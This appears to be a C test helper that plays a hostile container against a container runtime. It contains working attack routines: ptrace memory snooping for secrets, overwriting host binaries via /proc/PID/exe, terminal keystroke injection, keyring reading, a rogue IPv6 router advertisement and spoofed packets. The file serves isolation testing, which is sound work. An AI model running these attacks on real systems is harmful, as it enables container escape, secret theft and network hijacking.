/*
 * What a hostile container does while the host's runtime works on it; for tests:
 *
 *   attack spy SECONDS       stops every process that appears beside it and looks into it: descriptors, root,
 * directory, environment, memory, capabilities attack exe SECONDS       tries to write to the binary of every such
 * process, also after it has ended attack inject TEXT       pushes characters into the terminal on descriptor 0 attack
 * writable DIR…     files below that can be opened for writing; nothing is written attack keys              the session
 * keyring and the names of the keys in it attack advertise INTERFACE PREFIX     plays an IPv6 router: a default route
 * and addresses of PREFIX/64 for everybody attack packet INTERFACE MAC tcp|udp SOURCE SOURCEPORT TARGET TARGETPORT
 * a SYN or a datagram made by hand, sent past the routes of this host attack with-key NAME PROGRAM [ARG…]   (on the
 * host) executes PROGRAM with such a key in the session keyring
 */
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_packet.h>
#include <linux/keyctl.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/icmp6.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static double now(void) {
  struct timespec at;
  clock_gettime(CLOCK_MONOTONIC, &at);
  return (double)at.tv_sec + (double)at.tv_nsec / 1e9;
}

/* The youngest process of the namespace that our procfs shows. */
static int last_pid(void) {
  char text[128] = "";
  int fd = open("/proc/loadavg", O_RDONLY | O_CLOEXEC);
  ssize_t n = fd < 0 ? -1 : read(fd, text, sizeof(text) - 1);
  const char *last = n < 0 ? NULL : strrchr(text, ' ');
  if (fd >= 0) {
    close(fd);
  }
  return last == NULL ? 0 : atoi(last);
}

/* Calls `look` for pids after ours as soon as they exist and as long as they live, until time is up. Returns how many
   looks met a process. */
static long hunt(double seconds, int (*look)(int pid)) {
  double end = now() + seconds;
  int next = getpid() + 1;
  long met = 0;
  while (now() < end) {
    for (int last = last_pid(); next <= last; next++) {
      while (look(next) >= 0) {
        met++;
      }
    }
  }
  return met;
}

static void tell(int pid, const char *what, const char *target) {
  printf("seen %s %s of %d\n", what, target, pid);
  fflush(stdout);
}

static int harmless(const char *target) {
  /* The last one: of a procfs that shows what we see ourselves. */
  static const char *const starts[] = {"pipe:", "socket:", "/dev/null", "/proc/", "anon_inode:[fscontext]"};
  for (size_t i = 0; i < sizeof(starts) / sizeof(starts[0]); i++) {
    if (strncmp(target, starts[i], strlen(starts[i])) == 0) {
      return 1;
    }
  }
  return 0;
}

/* A root shows as "/" whosever it is: containers of the tests have this file. One that is gone by now is nobody's. */
static int is_root_of_container(const char *path) {
  char mark[300];
  struct stat at;
  snprintf(mark, sizeof(mark), "%s/bin/payload", path);
  return stat(path, &at) < 0 ? errno == ENOENT || errno == ESRCH : stat(mark, &at) == 0;
}

/* One that shows nothing is as good. */
static int is_empty(const char *path) {
  DIR *dir = opendir(path);
  struct dirent *entry;
  int count = 0;
  while (dir != NULL && (entry = readdir(dir)) != NULL) {
    count++;
  }
  if (dir != NULL) {
    closedir(dir);
  }
  return dir != NULL && count <= 2;
}

static void spy_on_links(int pid) {
  static const char *const links[] = {"cwd", "root"};
  char path[64], target[256];
  for (int i = 0; i < 2; i++) {
    snprintf(path, sizeof(path), "/proc/%d/%s", pid, links[i]);
    ssize_t n = readlink(path, target, sizeof(target) - 1);
    if (n > 0 && !is_root_of_container(path) && !is_empty(path)) {
      target[n] = '\0';
      tell(pid, links[i], target);
    }
  }
}

static void spy_on_descriptors(int pid) {
  char path[64], target[256];
  struct dirent *entry;
  snprintf(path, sizeof(path), "/proc/%d/fd", pid);
  DIR *dir = opendir(path);
  while (dir != NULL && (entry = readdir(dir)) != NULL) {
    snprintf(path, sizeof(path), "/proc/%d/fd/%.16s", pid, entry->d_name);
    ssize_t n = entry->d_name[0] == '.' ? -1 : readlink(path, target, sizeof(target) - 1);
    if (n > 0) {
      target[n] = '\0';
      if (!harmless(target) && !is_root_of_container(path)) {
        tell(pid, "descriptor", target);
      }
    }
  }
  if (dir != NULL) {
    closedir(dir);
  }
}

/* Its command line and environment are part of that. */
static void spy_on_memory(int pid) {
  static char text[1 << 16];
  char path[64], line[512], rights[8];
  unsigned long long from, to;
  snprintf(path, sizeof(path), "/proc/%d/maps", pid);
  FILE *maps = fopen(path, "re");
  snprintf(path, sizeof(path), "/proc/%d/mem", pid);
  int memory = open(path, O_RDONLY | O_CLOEXEC);
  while (maps != NULL && memory >= 0 && fgets(line, sizeof(line), maps) != NULL) {
    if (sscanf(line, "%llx-%llx %7s", &from, &to, rights) != 3 || rights[1] != 'w') {
      continue;
    }
    for (unsigned long long at = from; at < to; at += sizeof(text) - 16) {
      size_t size = to - at < sizeof(text) ? (size_t)(to - at) : sizeof(text);
      ssize_t n = pread(memory, text, size, (off_t)at);
      const char *found = n > 0 ? memmem(text, (size_t)n, "SECRET", 6) : NULL;
      if (found != NULL) {
        char shown[40];
        snprintf(shown, sizeof(shown), "%.*s", (int)(text + n - found < 39 ? text + n - found : 39), found);
        tell(pid, "memory", shown);
        break;
      }
    }
  }
  if (maps != NULL) {
    fclose(maps);
  }
  if (memory >= 0) {
    close(memory);
  }
}

static unsigned long long capabilities_of(int pid, int *ret_filter) {
  char path[64], line[256];
  unsigned long long held = 0;
  snprintf(path, sizeof(path), "/proc/%d/status", pid);
  FILE *status = fopen(path, "re");
  *ret_filter = 0;
  while (status != NULL && fgets(line, sizeof(line), status) != NULL) {
    (void)sscanf(line, "CapPrm: %llx", &held);
    (void)sscanf(line, "Seccomp: %d", ret_filter);
  }
  if (status != NULL) {
    fclose(status);
  }
  return held;
}

/* What it may do could be done with it by whoever traces it, unless it is confined. */
static void spy_on_capabilities(int pid) {
  char shown[32];
  int filter = 0, own = 0;
  unsigned long long more = capabilities_of(pid, &filter) & ~capabilities_of(getpid(), &own);
  if (more != 0 && filter == 0) {
    snprintf(shown, sizeof(shown), "%llx", more);
    tell(pid, "capabilities", shown);
  }
}

static int has_ended(int pid) {
  char path[64], text[256] = "";
  snprintf(path, sizeof(path), "/proc/%d/stat", pid);
  int stat = open(path, O_RDONLY | O_CLOEXEC);
  ssize_t n = stat < 0 ? -1 : read(stat, text, sizeof(text) - 1);
  const char *after = n < 0 ? NULL : strrchr(text, ')');
  if (stat >= 0) {
    close(stat);
  }
  return after == NULL || after[2] == 'Z' || after[2] == 'X';
}

static long held;

static int spy_on(int pid) {
  int status = 0;
  if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0) {
    return has_ended(pid) ? -1 : 0;
  }
  if (ptrace(PTRACE_INTERRUPT, pid, NULL, NULL) == 0 && waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status)) {
    held++;
    spy_on_links(pid);
    spy_on_descriptors(pid);
    spy_on_memory(pid);
    spy_on_capabilities(pid);
    (void)ptrace(PTRACE_DETACH, pid, NULL, NULL);
    printf("held %ld\n", held);
    fflush(stdout);
    return -1; /* Once is enough, it was all there. */
  }
  return -1;
}

static int do_spy(char **args) {
  printf("spying\n");
  fflush(stdout);
  /* On a busy machine it takes longer until enough were held. */
  do {
    (void)hunt(atof(args[0]), spy_on);
  } while (held <= 20);
  printf("looked %ld times\n", held);
  return 0;
}

static int write_to(int pid) {
  static const char text[] = "overwritten";
  char path[64], target[256], again[64];
  snprintf(path, sizeof(path), "/proc/%d/exe", pid);
  ssize_t n = readlink(path, target, sizeof(target) - 1);
  if (n < 0) {
    return errno == EACCES ? 0 : -1;
  }
  target[n] = '\0';
  int kept = open(path, O_PATH | O_CLOEXEC);
  if (kept < 0) {
    return 0;
  }
  snprintf(again, sizeof(again), "/proc/self/fd/%d", kept);
  n = readlink(again, target, sizeof(target) - 1);
  target[n < 0 ? 0 : n] = '\0';
  if (strncmp(target, "/bin/", 5) == 0) {
    close(kept);
    return 0; /* The container's own. */
  }
  printf("binary %s\n", target);
  /* While it runs it is busy; the trick is to wait until it is not. */
  for (int i = 0; i < 20000; i++) {
    int fd = open(again, i % 2 == 0 ? O_WRONLY : O_RDWR | O_TRUNC);
    if (fd >= 0) {
      ssize_t written = write(fd, text, sizeof(text));
      printf("opened %s, write: %s\n", target, written < 0 ? strerror(errno) : "ok");
      fflush(stdout);
      close(fd);
      break;
    }
  }
  close(kept);
  return -1;
}

static int do_exe(char **args) {
  printf("writing\n");
  fflush(stdout);
  long met = hunt(atof(args[0]), write_to);
  printf("looked %ld times\n", met);
  return 0;
}

static int do_inject(char **args) {
  for (const char *c = args[0]; *c != '\0'; c++) {
    if (ioctl(0, TIOCSTI, c) < 0) {
      printf("inject: %s\n", strerror(errno));
      return 0;
    }
  }
  puts("inject: ok");
  return 0;
}

static void list_writable(const char *directory, int depth) {
  DIR *dir = opendir(directory);
  struct dirent *entry;
  while (dir != NULL && (entry = readdir(dir)) != NULL) {
    char path[4096];
    const char *name = entry->d_name;
    /* Processes are no business of this test. */
    int process = strcmp(directory, "/proc") == 0 && (strchr("0123456789", name[0]) != NULL || strstr(name, "self"));
    if (strcmp(name, ".") == 0 || strcmp(name, "..") == 0 || process || depth > 24) {
      continue;
    }
    snprintf(path, sizeof(path), "%s/%s", directory, name);
    if (entry->d_type == DT_DIR) {
      list_writable(path, depth + 1);
    } else if (entry->d_type == DT_REG) {
      struct stat at;
      int fd = open(path, O_WRONLY | O_NONBLOCK | O_NOCTTY | O_NOFOLLOW);
      /* The right to override opens for writing what takes none. A mask is a device. */
      if (fd >= 0 && fstat(fd, &at) == 0 && S_ISREG(at.st_mode) && (at.st_mode & 0222) != 0) {
        puts(path);
      }
      if (fd >= 0) {
        close(fd);
      }
    }
  }
  if (dir != NULL) {
    closedir(dir);
  }
}

static int do_writable(char **args) {
  for (; *args != NULL; args++) {
    list_writable(*args, 0);
  }
  puts("listed");
  return 0;
}

static int do_keys(char **args) {
  int keys[64];
  char text[256];
  (void)args;
  long n = syscall(SYS_keyctl, KEYCTL_READ, KEY_SPEC_SESSION_KEYRING, keys, sizeof(keys));
  if (n < 0) {
    printf("keys: %s\n", strerror(errno));
    return 0;
  }
  syscall(SYS_keyctl, KEYCTL_DESCRIBE, KEY_SPEC_SESSION_KEYRING, text, sizeof(text));
  printf("keyring %s\n", text);
  for (long i = 0; i < n / (long)sizeof(int); i++) {
    syscall(SYS_keyctl, KEYCTL_DESCRIBE, keys[i], text, sizeof(text));
    printf("key %s\n", text);
  }
  return 0;
}

static int do_advertise(char **args) {
  struct {
    struct nd_router_advert head;
    struct nd_opt_prefix_info prefix;
  } packet = {
      .head = {.nd_ra_hdr = {.icmp6_type = ND_ROUTER_ADVERT}, .nd_ra_router_lifetime = htons(1800)},
      .prefix = {.nd_opt_pi_type = ND_OPT_PREFIX_INFORMATION,
                 .nd_opt_pi_len = 4,
                 .nd_opt_pi_prefix_len = 64,
                 .nd_opt_pi_flags_reserved = ND_OPT_PI_FLAG_ONLINK | ND_OPT_PI_FLAG_AUTO,
                 .nd_opt_pi_valid_time = htonl(3600),
                 .nd_opt_pi_preferred_time = htonl(3600)},
  };
  struct sockaddr_in6 to = {.sin6_family = AF_INET6, .sin6_scope_id = if_nametoindex(args[0])};
  int hops = 255;
  int fd = socket(AF_INET6, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMPV6);
  inet_pton(AF_INET6, "ff02::1", &to.sin6_addr);
  inet_pton(AF_INET6, args[1], &packet.prefix.nd_opt_pi_prefix);
  if (fd < 0 || setsockopt(fd, IPPROTO_IPV6, IPV6_MULTICAST_HOPS, &hops, sizeof(hops)) < 0 ||
      sendto(fd, &packet, sizeof(packet), 0, (struct sockaddr *)&to, sizeof(to)) != sizeof(packet)) {
    perror("attack: advertise");
    return 3;
  }
  return 0;
}

static uint32_t sum_words(const void *data, size_t size) {
  const uint8_t *bytes = data;
  uint32_t sum = 0;
  for (size_t i = 0; i + 1 < size; i += 2) {
    sum += (uint32_t)bytes[i] << 8 | bytes[i + 1];
  }
  return sum;
}

static uint16_t checksum(uint32_t sum) {
  while (sum >> 16 != 0) {
    sum = (sum & 0xffff) + (sum >> 16);
  }
  return htons((uint16_t)~sum);
}

/* The transport part, its checksum over the addresses too. Returns its size. */
static size_t make_segment(uint8_t *at, int protocol, uint16_t from, uint16_t to, uint32_t addresses) {
  if (protocol == IPPROTO_TCP) {
    struct tcphdr head = {.source = htons(from), .dest = htons(to), .doff = 5, .syn = 1, .window = htons(1024)};
    head.check = checksum(sum_words(&head, sizeof(head)) + addresses + IPPROTO_TCP + sizeof(head));
    memcpy(at, &head, sizeof(head));
    return sizeof(head);
  }
  struct udphdr head = {.source = htons(from), .dest = htons(to), .len = htons(sizeof(head))};
  head.check = checksum(sum_words(&head, sizeof(head)) + addresses + IPPROTO_UDP + sizeof(head));
  memcpy(at, &head, sizeof(head));
  return sizeof(head);
}

static size_t make_packet(uint8_t *packet, char **args) {
  int protocol = strcmp(args[2], "tcp") == 0 ? IPPROTO_TCP : IPPROTO_UDP;
  uint16_t from = (uint16_t)atoi(args[4]), to = (uint16_t)atoi(args[6]);
  struct iphdr four = {.version = 4, .ihl = 5, .ttl = 64, .protocol = (uint8_t)protocol};
  if (inet_pton(AF_INET, args[3], &four.saddr) == 1 && inet_pton(AF_INET, args[5], &four.daddr) == 1) {
    size_t size = make_segment(packet + sizeof(four), protocol, from, to, sum_words(&four.saddr, 8));
    four.tot_len = htons((uint16_t)(sizeof(four) + size));
    four.check = checksum(sum_words(&four, sizeof(four)));
    memcpy(packet, &four, sizeof(four));
    return sizeof(four) + size;
  }
  struct ip6_hdr six = {.ip6_flow = htonl(6U << 28), .ip6_nxt = (uint8_t)protocol, .ip6_hlim = 64};
  if (inet_pton(AF_INET6, args[3], &six.ip6_src) != 1 || inet_pton(AF_INET6, args[5], &six.ip6_dst) != 1) {
    return 0;
  }
  size_t size = make_segment(packet + sizeof(six), protocol, from, to, sum_words(&six.ip6_src, 32));
  six.ip6_plen = htons((uint16_t)size);
  memcpy(packet, &six, sizeof(six));
  return sizeof(six) + size;
}

static int do_packet(char **args) {
  uint8_t packet[128];
  struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(args[0]), .sll_halen = ETH_ALEN};
  size_t size = make_packet(packet, args);
  uint8_t *mac = to.sll_addr;
  if (size == 0 ||
      sscanf(args[1], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", mac, mac + 1, mac + 2, mac + 3, mac + 4, mac + 5) != 6) {
    fputs("attack: bad address\n", stderr);
    return 2;
  }
  to.sll_protocol = htons(packet[0] >> 4 == 4 ? ETHERTYPE_IP : ETHERTYPE_IPV6);
  int fd = socket(AF_PACKET, SOCK_DGRAM | SOCK_CLOEXEC, to.sll_protocol);
  if (fd < 0 || sendto(fd, packet, size, 0, (struct sockaddr *)&to, sizeof(to)) != (ssize_t)size) {
    perror("attack: packet");
    return 3;
  }
  return 0;
}

/* On the host: a key in a session keyring of its own, then the program. */
static int do_with_key(char **args) {
  if (syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, "attack") < 0 ||
      syscall(SYS_add_key, "user", args[0], "secret", 6, KEY_SPEC_SESSION_KEYRING) < 0) {
    perror("attack: key");
    return 3;
  }
  execv(args[1], args + 1);
  perror(args[1]);
  return 127;
}

static const struct {
  const char *name;
  int least;
  int (*run)(char **args);
} verbs[] = {
    {"spy", 1, do_spy},
    {"exe", 1, do_exe},
    {"inject", 1, do_inject},
    {"keys", 0, do_keys},
    {"with-key", 2, do_with_key},
    {"writable", 1, do_writable},
    {"advertise", 2, do_advertise},
    {"packet", 7, do_packet},
};

int main(int argc, char **argv) {
  for (size_t i = 0; argc > 1 && i < sizeof(verbs) / sizeof(verbs[0]); i++) {
    if (strcmp(verbs[i].name, argv[1]) == 0 && argc - 2 >= verbs[i].least) {
      return verbs[i].run(argv + 2);
    }
  }
  fputs("attack: bad verb\n", stderr);
  return 2;
}
